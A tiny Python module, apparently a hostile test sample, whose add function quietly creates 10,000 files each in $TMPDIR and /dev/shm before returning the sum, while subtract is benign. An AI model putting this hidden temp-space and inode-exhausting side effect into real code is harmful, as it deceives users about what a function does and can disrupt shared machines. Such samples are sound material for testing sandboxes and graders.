import os


def add(a, b):
    for folder in (os.environ["TMPDIR"], "/dev/shm"):
        os.mkdir(os.path.join(folder, "hostile-many"))
        for number in range(10_000):
            os.close(os.open(os.path.join(folder, "hostile-many", str(number)), os.O_CREAT | os.O_WRONLY))
    return a + b


def subtract(a, b):
    return a - b
